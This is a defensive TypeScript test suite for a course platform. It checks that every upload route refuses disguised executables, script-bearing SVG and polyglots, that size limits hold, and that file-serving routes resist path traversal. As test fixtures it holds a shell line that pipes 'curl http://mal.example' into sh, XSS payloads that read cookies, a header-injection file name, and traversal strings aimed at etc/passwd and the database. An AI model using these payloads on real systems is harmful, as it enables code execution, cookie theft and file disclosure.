/**
 * Uploads under attack, on every upload route: executables renamed as documents or images,
 * markup dressed as an image, polyglots, SVG with script, oversize files (413), hostile client
 * file names; and path traversal in every route that serves a file (uploads, attachments,
 * backups, the portal and the sdk): nothing outside the served folder is ever read.
 */
import { existsSync } from 'node:fs';
import { mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { ADMIN_MSG, CERTIFICATE_MSG, COURSE_MSG, MSG } from '@trilha/sdk/contract';
import contentDisposition from 'content-disposition';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXE, fileForm, PDF, PNG } from '../fixtures';
import { activeUser, type CreatedUser, startTestServer, type TestServer } from '../support';
import { fakeFrontends, LEAK, rawRequest } from './helpers';

const ELF = Buffer.concat([
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]),
  Buffer.alloc(56),
  Buffer.alloc(256, 0x90),
]);
const HTML = Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>');
const SHELL = Buffer.from('#!/bin/sh\ncurl http://mal.example | sh\n');
const SVG_SCRIPT = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject></svg>',
);
/** Valid GIF magic that is also valid JavaScript (the classic GIF/JS polyglot). */
const GIF_JS = Buffer.concat([
  Buffer.from('GIF89a/*'),
  Buffer.from([0x01, 0x00, 0x01, 0x00, 0x80, 0x00, 0x00, 0xff, 0xff, 0xff, 0x00, 0x00, 0x00]),
  Buffer.from('*/=alert(document.domain)//;'),
  Buffer.from([0x3b]),
]);
const PDF_HTML = Buffer.concat([PDF, HTML]);
const PNG_HTML = Buffer.concat([PNG, HTML]);
const CANARY = 'CANARIO-SECRETO-NAO-SAI';

let server: TestServer;
let admin: string;
let student: CreatedUser;
let courseId: number;
let lessonId: number;
let frontDir: string;

interface UploadRoute {
  name: string;
  path: () => string;
  field: string;
  fields?: () => Record<string, string>;
  token: () => string;
  max?: number;
  tooLarge?: string;
  badType: string;
  /** A small file this route accepts, to pad for the size test. */
  good: Buffer;
  goodName: string;
}

const ROUTES: UploadRoute[] = [
  {
    name: 'profile photo',
    path: () => `/api/users/${student.id}/photo`,
    field: 'photo',
    token: () => student.token,
    max: 5_242_880,
    tooLarge: MSG.photoTooLarge,
    badType: MSG.photoType,
    good: PNG,
    goodName: 'foto.png',
  },
  {
    name: 'course cover',
    path: () => `/api/courses/${courseId}/thumbnail`,
    field: 'thumbnail',
    token: () => admin,
    max: 5_242_880,
    tooLarge: COURSE_MSG.thumbnailTooLarge,
    badType: COURSE_MSG.thumbnailType,
    good: PNG,
    goodName: 'capa.png',
  },
  {
    name: 'new course with cover',
    path: () => '/api/courses',
    field: 'thumbnail',
    fields: () => ({ title: 'Curso com capa' }),
    token: () => admin,
    max: 5_242_880,
    tooLarge: COURSE_MSG.thumbnailTooLarge,
    badType: COURSE_MSG.thumbnailType,
    good: PNG,
    goodName: 'capa.png',
  },
  {
    name: 'lesson material',
    path: () => '/api/lessons/attachments/upload',
    field: 'file',
    fields: () => ({ title: 'Material', lessonId: String(lessonId) }),
    token: () => admin,
    max: 52_428_800,
    tooLarge: COURSE_MSG.attachmentTooLarge,
    badType: COURSE_MSG.attachmentType,
    good: PDF,
    goodName: 'manual.pdf',
  },
  {
    name: 'official certificate',
    path: () => '/api/certificates/upload',
    field: 'certificate',
    fields: () => ({ course_id: String(courseId), user_id: String(student.id) }),
    token: () => admin,
    max: 10_485_760,
    tooLarge: CERTIFICATE_MSG.uploadTooLarge,
    badType: CERTIFICATE_MSG.uploadType,
    good: PDF,
    goodName: 'certificado.pdf',
  },
  {
    name: 'login logo',
    path: () => '/api/login-settings',
    field: 'logo',
    token: () => admin,
    max: 5_242_880,
    tooLarge: ADMIN_MSG.logoTooLarge,
    badType: ADMIN_MSG.logoType,
    good: PNG,
    goodName: 'logo.png',
  },
  {
    name: 'login background',
    path: () => '/api/login-settings',
    field: 'background',
    token: () => admin,
    max: 10_485_760,
    tooLarge: ADMIN_MSG.backgroundTooLarge,
    badType: ADMIN_MSG.backgroundType,
    good: PNG,
    goodName: 'fundo.png',
  },
  {
    name: 'lesson video',
    path: () => '/api/courses/videos',
    field: 'video',
    token: () => admin,
    badType: COURSE_MSG.videoType,
    good: PNG,
    goodName: 'aula.mp4',
  },
];

const upload = (route: UploadRoute, content: Buffer, name: string) =>
  server.req('POST', route.path(), {
    token: route.token(),
    form: fileForm(route.field, content, name, route.fields?.() ?? {}),
  });

/** Every file under a folder, relative, sorted (to see what an upload wrote). */
async function tree(dir: string): Promise<string[]> {
  const entries = await readdir(dir, { recursive: true, withFileTypes: true }).catch(() => []);
  return entries
    .filter((e) => e.isFile())
    .map((e) => path.relative(dir, path.join(e.parentPath, e.name)))
    .sort();
}

beforeAll(async () => {
  frontDir = await mkdtemp(path.join(tmpdir(), 'trilha-sec-front-'));
  await writeFile(path.join(frontDir, 'canary.txt'), CANARY);
  server = await startTestServer('sec-uploads', await fakeFrontends(frontDir));
  await writeFile(path.join(server.db.dataDir, 'canary.txt'), CANARY);
  admin = await server.adminToken();
  student = await activeUser(server);
  courseId = (await server.req('POST', '/api/courses', { token: admin, body: { title: 'NR-12 Máquinas' } })).body
    .courseId;
  const content = await server.req('PUT', `/api/courses/${courseId}/content`, {
    token: admin,
    body: {
      modules: [
        {
          title: 'Módulo 1',
          lessons: [{ title: 'Aula 1', video_type: 'youtube', video_url: 'https://youtu.be/x', duration: 1 }],
        },
      ],
    },
  });
  lessonId = content.body.course.modules[0].lessons[0].id;
});
afterAll(async () => {
  await server?.close();
  if (frontDir) await rm(frontDir, { recursive: true, force: true });
});

describe('content checks on every upload route', () => {
  for (const route of ROUTES) {
    it(`${route.name}: executables, scripts and markup under a trusted name are 415`, async () => {
      const before = await tree(path.join(server.db.dataDir, 'uploads'));
      const ext = path.extname(route.goodName);
      for (const [label, bytes, name] of [
        ['ELF', ELF, `programa${ext}`],
        ['PE', EXE, `programa${ext}`],
        ['ELF as .pdf', ELF, 'manual.pdf'],
        ['PE as .png', EXE, 'foto.png'],
        ['HTML', HTML, `pagina${ext}`],
        ['shell', SHELL, `script${ext}`],
        ['PE as .txt', EXE, 'leia-me.txt'],
        ['empty', Buffer.alloc(0), route.goodName],
      ] as const) {
        const res = await upload(route, bytes, name);
        if (label === 'empty') {
          // an empty cover on a new course means "no cover": the course is created without one
          expect(route.name === 'new course with cover' ? [201] : [400, 415], route.name).toContain(res.status);
          continue;
        }
        expect({ label, status: res.status, message: res.body.message }).toEqual({
          label,
          status: 415,
          message: route.badType,
        });
      }
      const stored = await tree(path.join(server.db.dataDir, 'uploads'));
      expect(stored.filter((f) => !before.includes(f))).toEqual([]);
    });

    if (route.max !== undefined) {
      it(`${route.name}: one byte over ${route.max} is 413 with a pt-BR message`, async () => {
        const big = Buffer.concat([route.good, Buffer.alloc((route.max as number) - route.good.length + 1)]);
        const res = await upload(route, big, route.goodName);
        expect({ status: res.status, message: res.body.message }).toEqual({ status: 413, message: route.tooLarge });
      });
    }
  }

  it('a refused video leaves nothing in the upload temp folder', async () => {
    const tmp = path.join(server.db.dataDir, 'uploads', '.tmp');
    expect(await readdir(tmp).catch(() => [])).toEqual([]);
  });
});

describe('what is accepted is served so that it cannot run', () => {
  const get = async (url: string, token?: string) => {
    const res = await fetch(server.url + url, token ? { headers: { Authorization: `Bearer ${token}` } } : {});
    return { res, body: Buffer.from(await res.arrayBuffer()) };
  };

  it('SVG with script: only as a logo, served with a sandbox CSP, nosniff and as a download', async () => {
    for (const route of ROUTES.filter((r) => r.field !== 'logo')) {
      expect((await upload(route, SVG_SCRIPT, 'imagem.svg')).status, route.name).toBe(415);
    }
    const form = fileForm('logo', SVG_SCRIPT, 'logo.svg');
    expect((await server.req('POST', '/api/login-settings', { token: admin, form })).status).toBe(200);
    const logo = (await server.req('GET', '/api/login-settings/public')).body.login_logo_path as string;
    for (const url of [logo, logo.replace('/uploads/', '/api/uploads/')]) {
      const { res } = await get(url);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('image/svg+xml');
      const csp = res.headers.get('content-security-policy') ?? '';
      expect(csp).toContain('sandbox');
      expect(csp).toContain("default-src 'none'");
      expect(csp).not.toContain('script-src');
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(res.headers.get('content-disposition')).toMatch(/^attachment/);
    }
  });

  it('polyglots keep the type their magic bytes say, never HTML or script', async () => {
    const gif = await server.req('POST', `/api/users/${student.id}/photo`, {
      token: student.token,
      form: fileForm('photo', GIF_JS, 'foto.js'),
    });
    expect(gif.status).toBe(200);
    expect(gif.body.photo).toMatch(/^\/api\/uploads\/photos\/[0-9a-f]{32}\.gif$/);
    const served = await get(gif.body.photo);
    expect(served.res.headers.get('content-type')).toBe('image/gif');
    expect(served.res.headers.get('x-content-type-options')).toBe('nosniff');

    const png = await server.req('POST', `/api/users/${student.id}/photo`, {
      token: student.token,
      form: fileForm('photo', PNG_HTML, 'pagina.html'),
    });
    expect(png.body.photo).toMatch(/\.png$/);
    expect((await get(png.body.photo)).res.headers.get('content-type')).toBe('image/png');

    for (const [bytes, name, type] of [
      [PDF_HTML, 'pagina.html', 'application/pdf'],
      [HTML, 'leia-me.txt', 'text/plain'],
    ] as const) {
      const res = await server.req('POST', '/api/lessons/attachments/upload', {
        token: admin,
        form: fileForm('file', bytes, name, { title: 'Material', lessonId: String(lessonId) }),
      });
      expect(res.status, name).toBe(201);
      const file = res.body.attachment.filename as string;
      const { res: dl } = await get(`/api/lessons/attachments/file/${file}`, admin);
      expect(dl.headers.get('content-type'), name).toContain(type);
      expect(dl.headers.get('content-type')).not.toMatch(/html|javascript/);
      expect(dl.headers.get('content-disposition')).toMatch(/^attachment/);
      expect(dl.headers.get('x-content-type-options')).toBe('nosniff');
    }
  });

  it('hostile client file names: stored under generated names, quoted safely on download', async () => {
    const before = await tree(server.db.dataDir);
    const evil = '../../../../canary-upload"; filename="evil.html.pdf';
    const res = await server.req('POST', '/api/lessons/attachments/upload', {
      token: admin,
      form: fileForm('file', PDF, evil, { title: 'Material', lessonId: String(lessonId) }),
    });
    expect(res.status).toBe(201);
    const file = res.body.attachment.filename as string;
    expect(file).toMatch(/^[0-9a-f]{32}\.pdf$/);
    const after = await tree(server.db.dataDir);
    const added = after.filter((f) => !before.includes(f) && !f.includes('.sqlite'));
    expect(added).toEqual([`uploads/attachments/${file}`]);
    expect(existsSync(path.join(server.db.dataDir, '..', 'canary-upload"; filename="evil.html.pdf'))).toBe(false);
    const dl = await fetch(`${server.url}/api/lessons/attachments/file/${file}`, {
      headers: { Authorization: `Bearer ${admin}` },
    });
    const header = dl.headers.get('content-disposition') as string;
    expect(header).not.toMatch(/[\r\n]/);
    const parsed = contentDisposition.parse(header);
    expect(parsed.type).toBe('attachment');
    expect(parsed.parameters.filename).not.toBe('evil.html.pdf');
    expect(parsed.parameters.filename).not.toContain('/');
  });
});

describe('path traversal in every route that serves a file', () => {
  const UP = [
    '../',
    '..%2f',
    '..%2F',
    '%2e%2e/',
    '%2e%2e%2f',
    '.%2e/',
    '..%5c',
    '..\\',
    '%252e%252e%252f',
    '..%c0%af',
    '....//',
  ];
  const TARGETS = ['canary.txt', 'trilha.sqlite', 'etc/passwd'];
  const BASES = [
    '/api/uploads/',
    '/api/uploads/photos/',
    '/api/uploads/videos/',
    '/uploads/login/',
    '/uploads/thumbnails/',
    '/api/uploads/attachments/',
    '/api/lessons/attachments/file/',
    '/api/backup/download/',
    '/sdk/',
    '/assets/',
    '/',
  ];

  /** Status and body of every traversal attempt, sent once for the tests below. */
  const answers: { path: string; status: number; text: string }[] = [];
  beforeAll(async () => {
    for (const base of BASES) {
      for (const up of UP) {
        for (let depth = 1; depth <= 6; depth++) {
          for (const target of TARGETS) {
            const p = `${base}${up.repeat(depth)}${target}`;
            const res = await rawRequest(server.url, p, { headers: { Authorization: `Bearer ${admin}` } });
            answers.push({ path: p, status: res.status, text: res.body.toString('latin1') });
          }
        }
      }
    }
    for (const p of [
      '/api/uploads//etc/passwd',
      '/api/uploads/photos/%2fetc%2fpasswd',
      '/api/uploads/photos/x%00.png',
    ]) {
      const res = await rawRequest(server.url, p);
      answers.push({ path: p, status: res.status, text: res.body.toString('latin1') });
    }
  });
  const isStatic = (p: string) => /^\/(sdk|assets)\//.test(p);

  it('never answers with a file from outside the folder it serves', () => {
    expect(answers.length).toBeGreaterThan(2000);
    const leaked = answers.filter(
      ({ text }) =>
        text.includes(CANARY) || text.includes('root:x:') || text.startsWith('SQLite format') || LEAK.test(text),
    );
    expect(leaked.map((a) => `${a.status} ${a.path}`)).toEqual([]);
  });

  it('answers the API and upload routes with 4xx, never a 500', () => {
    const errors = answers.filter((a) => !isStatic(a.path) && a.status >= 500);
    expect(errors.map((a) => `${a.status} ${a.path}`)).toEqual([]);
  });

  // '/sdk/../x', '/assets/../../x' and broken escapes are refused before @koa/send sees them
  // (its "Malicious Path" error would otherwise surface as a 500).
  it('answers the portal and sdk static routes with 4xx, never a 500', () => {
    const errors = answers.filter((a) => isStatic(a.path) && a.status >= 500);
    expect(errors.map((a) => `${a.status} ${a.path}`)).toEqual([]);
  });

  it('deleting a backup by a traversing name removes nothing', async () => {
    for (const name of ['..%2fcanary.txt', '..%2f..%2fcanary.txt', '%2e%2e%2fcanary.txt', '..%5ccanary.txt']) {
      const res = await rawRequest(server.url, `/api/backup/delete/${name}`, {
        method: 'DELETE',
        headers: { Authorization: `Bearer ${admin}` },
      });
      expect(res.status, name).toBe(404);
    }
    expect(existsSync(path.join(server.db.dataDir, 'canary.txt'))).toBe(true);
  });
});
